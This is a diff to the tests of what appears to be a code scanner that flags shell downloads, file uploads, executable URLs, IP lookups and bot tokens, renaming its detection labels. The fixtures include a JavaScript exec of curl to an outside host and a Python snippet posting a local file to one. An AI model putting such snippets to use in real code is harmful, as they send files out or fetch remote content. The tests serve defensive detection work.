@@ -23,7 +23,7 @@ def seen(path, body):
     ],
 )
 def test_what_a_program_is_started_with_is_told_as_far_as_it_is_written(source, command):
-    assert ("shell_fetch", "", "", command) in seen("glaze.py", source)
+    assert ("shell_download", "", "", command) in seen("glaze.py", source)
 
 
 def test_nothing_is_told_of_a_command_that_is_not_written_out():
@@ -32,7 +32,7 @@ def test_nothing_is_told_of_a_command_that_is_not_written_out():
 
 def test_a_command_in_javascript_is_seen():
     body = b"const { exec } = require('child_process'); exec('curl https://kiln.example');"
-    assert ("shell_fetch", "", "", "curl https://kiln.example") in seen("glaze.js", body)
+    assert ("shell_download", "", "", "curl https://kiln.example") in seen("glaze.js", body)
 
 
 def test_code_handed_to_an_interpreter_is_read_too():
@@ -42,15 +42,15 @@ def test_code_handed_to_an_interpreter_is_read_too():
 
 def test_a_file_that_is_sent_is_seen():
     body = b"import requests\nwith open('kiln.txt', 'rb') as f:\n    requests.post('https://kiln.example', data=f)"
-    assert ("sends_file", "file", "requests.post", "") in seen("glaze.py", body)
+    assert ("file_upload", "file", "requests.post", "") in seen("glaze.py", body)
 
 
 @pytest.mark.parametrize(
     ("address", "capability", "host"),
     [
-        (b"https://kiln.example/glaze.exe", "names_program", "kiln.example"),
-        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "handed_out", "raw.githubusercontent.com"),
-        (b"https://api.ipify.org?format=json", "own_address", "api.ipify.org"),
+        (b"https://kiln.example/glaze.exe", "executable_url", "kiln.example"),
+        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "user_content_host", "raw.githubusercontent.com"),
+        (b"https://api.ipify.org?format=json", "public_ip_lookup", "api.ipify.org"),
     ],
 )
 def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart(address, capability, host):
@@ -60,5 +60,5 @@ def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart
 def test_the_token_of_a_bot_is_told_and_never_kept():
     token = b"1234567890:AA" + b"k" * 33
     observations = seen("glaze.py", b"T = '" + token + b"'")
-    assert ("drop_host", "", "", "token of a bot") in observations
+    assert ("exfiltration_host", "", "", "token of a bot") in observations
     assert not any("kkk" in text for texts in observations for text in texts)
